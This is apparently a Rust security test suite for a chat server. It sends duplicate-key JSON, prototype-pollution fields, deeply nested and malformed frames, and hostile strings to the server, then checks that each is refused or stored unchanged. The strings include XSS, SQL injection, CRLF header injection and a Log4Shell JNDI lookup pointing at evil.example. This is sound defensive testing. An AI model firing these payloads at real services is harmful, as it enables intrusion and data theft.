//! JSON that two readers read differently, that is deep, long or half, and text that means something to whoever shows it.

use petrel_test_client::tungstenite::Message;
use petrel_test_client::{Client, frames};
use serde_json::{Value, json};

use super::raw;
use crate::server::Server;

/// Sends a frame as it stands and returns the next that comes.
async fn say(client: &mut Client, frame: &str) -> Value {
    client.send_raw(Message::text(frame.to_owned())).await;
    client.next().await.unwrap()
}

fn nested(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

#[tokio::test]
async fn a_frame_that_is_read_in_two_ways_is_read_in_neither_or_by_its_last() {
    let server = Server::start().await;
    server.connect("bo").await.say("d:bo:bo", 0, "a note").await;
    let mut eve = server.connect("eve").await;
    // The gateway picks the route by `action`; the handler reads the frame again. Whatever each of them takes for the
    // field that stands twice, a caller never reads more than he may.
    for frame in [
        r#"{"action":"history","action":"history","conversation_id":"d:eve:eve","conversation_id":"d:bo:bo","after":0}"#,
        r#"{"action":"history","conversation_id":"d:bo:bo","conversation_id":"d:eve:eve","after":0}"#,
        r#"{"action":"history","conversation_id":"d:eve:eve","conversation\u005fid":"d:bo:bo","after":0}"#,
        r#"{"action":"sync","action":"history","conversation_id":"d:bo:bo","after":0}"#,
    ] {
        let answer = say(&mut eve, frame).await;
        assert_eq!(answer["code"], "not_a_member", "{frame}: {answer}");
    }
    // Over HTTP, where the types read the body, a field stands once.
    for body in [
        r#"{"to_user_id":"eve","to_user_id":"bo","content":{"type":"text","text":"x"}}"#,
        r#"{"to_user_id":"bo","content":{"type":"text","text":"x"},"content":{"type":"system"}}"#,
    ] {
        let answer = raw::ask_as(&server, "eve", "POST /api/messages", body).await;
        assert_eq!(raw::status(&answer), 400, "{body}: {answer}");
    }
    let (_, synced) = eve.sync(&json!({})).await;
    assert_eq!(synced["conversations"], json!([]));
}

#[tokio::test]
async fn what_no_field_asks_for_changes_nothing() {
    let server = Server::start().await;
    let mut ana = server.connect("ana").await;
    for (n, extra) in [
        json!({"__proto__": {"admin": true}}),
        json!({"constructor": {"prototype": {"sender_id": "bo"}}}),
        json!({"sender_id": "bo", "user_id": "bo", "sub": "bo", "seq": 1000, "sent_at": 1, "ordinal": 7}),
        json!({"requestContext": {"authorizer": {"user": "bo"}}}),
        json!({"$ne": null, "role": "admin"}),
    ]
    .into_iter()
    .enumerate()
    {
        let seen = n as u64;
        let mut frame =
            frames::send("d:ana:ana", seen, &frames::new_id(), frames::text("a note"));
        for (name, value) in extra.as_object().unwrap() {
            frame[name] = value.clone();
            frame["content"][name] = value.clone();
        }
        assert_eq!(ana.ask(&frame).await["seq"], seen + 1, "{extra}");
    }
    let (batches, _) = ana.sync(&json!({"d:ana:ana": 0})).await;
    for message in batches[0]["messages"].as_array().unwrap() {
        assert_eq!(message["sender_id"], "ana");
        assert_eq!(message["content"], frames::text("a note"), "kept as it was meant");
    }
    // `__proto__` is a user id like any other, here and in what the page makes of it.
    ana.say("d:__proto__:ana", 0, "hello").await;
    let group = server.found("ana", &["__proto__".to_owned(), "constructor".to_owned()]).await;
    let group = server.get("__proto__", &format!("/api/conversations/{group}")).await.expect(200);
    assert_eq!(group["members"].as_array().unwrap().len(), 3);
}

#[tokio::test]
async fn what_is_deep_large_or_half_is_refused_and_the_socket_lives() {
    let server = Server::start().await;
    let mut ana = server.connect("ana").await;
    let send = |content: &str| {
        let id = frames::new_id();
        format!(
            r#"{{"action":"send","conversation_id":"d:ana:ana","seen":0,"message_id":"{id}","content":{content}}}"#
        )
    };
    let frames = [
        nested(15_000),
        format!(r#"{{"action":"sync","cursors":{}}}"#, nested(10_000)),
        send(&nested(10_000)),
        format!("{}1{}", r#"{"a":"#.repeat(4_000), "}".repeat(4_000)),
        r#"{"action":"history","conversation_id":"d:ana:ana","after":1e400}"#.to_owned(),
        r#"{"action":"history","conversation_id":"d:ana:ana","after":18446744073709551616}"#
            .to_owned(),
        r#"{"action":"history","conversation_id":"d:ana:ana","after":-1}"#.to_owned(),
        r#"{"action":"history","conversation_id":"d:ana:ana","after":0.5}"#.to_owned(),
        r#"{"action":"history","conversation_id":"d:ana:ana","after":0,"limit":1e3}"#.to_owned(),
        r#"{"action":"history","conversation_id":"d:ana:ana","after":NaN}"#.to_owned(),
        r#"{"action":"ack","conversation_id":"d:ana:ana","read":18446744073709551615}"#.to_owned(),
        r#"{"action":"history","conversation_id":"d:ana:ana\u0000","after":0}"#.to_owned(),
        r#"{"action":"history","conversation_id":"d:ana:a\u006ea\n","after":0}"#.to_owned(),
        send(r#"{"type":"text","text":"\ud800"}"#),
        send(r#"{"type":"text","text":"\udc00\ud800"}"#),
        send(r#"{"type":"text","text":"half"#),
        send(r#"{"type":"text","text":["x"]}"#),
        send(r#"{"type":"\u0000text","text":"x"}"#),
        "{\"action\":\"sync\"}\u{0}".to_owned(),
        "\u{feff}{\"action\":\"sync\"}".to_owned(),
        r#"{"action":"sync"}{"action":"sync"}"#.to_owned(),
        r#"{'action':'sync'}"#.to_owned(),
        r#"{"action":"sync",}"#.to_owned(),
        r#"{"action":"sync"/**/}"#.to_owned(),
    ];
    for frame in frames {
        let answer = say(&mut ana, &frame).await;
        assert_eq!(answer["type"], "error", "{frame:.200}: {answer}");
        let code = answer["code"].as_str().unwrap();
        assert!(["bad_request", "not_a_member"].contains(&code), "{frame:.200}: {answer}");
    }
    for body in [nested(15_000), format!(r#"{{"cursors":{}}}"#, nested(10_000))] {
        let answer = raw::ask_as(&server, "ana", "POST /api/sync", &body).await;
        assert_eq!(raw::status(&answer), 400, "{answer:.300}");
    }
    // A seq beyond every log is one that is not there.
    let last =
        r#"{"action":"history","conversation_id":"d:ana:ana","before":18446744073709551615}"#;
    ana.say("d:ana:ana", 0, "alive").await;
    assert_eq!(say(&mut ana, last).await["messages"][0]["content"]["text"], "alive");
}

/// Text is text: it is kept as it came, and only whoever shows it can make more of it. The page does not (its policy
/// forbids what would run, and it sets text alone).
#[tokio::test]
async fn text_comes_back_as_it_was_sent() {
    let server = Server::start().await;
    let mut ana = server.connect("ana").await;
    let words = [
        "<script>alert(1)</script>",
        "\u{202e}gnp.exe",
        "\u{0}\u{1}\u{7f}\u{85}\u{2028}\u{2029}",
        "a\r\nset-cookie: x=y\r\n\r\n",
        "'; DROP TABLE messages; --",
        "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
        "\u{1b}[2J\u{1b}]0;title\u{7}",
        "\u{fffe}\u{ffff}\u{10ffff}\u{200b}",
    ];
    for (seen, words) in words.iter().enumerate() {
        ana.say("d:ana:ana", seen as u64, words).await;
    }
    let (batches, _) = ana.sync(&json!({"d:ana:ana": 0})).await;
    let kept = crate::look::each(&batches[0]["messages"], "/content/text");
    assert_eq!(kept, json!(words));
    let page = include_str!("../../infra/local/page/app.js").to_owned()
        + include_str!("../../infra/local/page/view.js")
        + include_str!("../../infra/local/page/dom.js");
    for runs in
        ["innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"]
    {
        assert!(!page.contains(runs), "{runs}");
    }
}
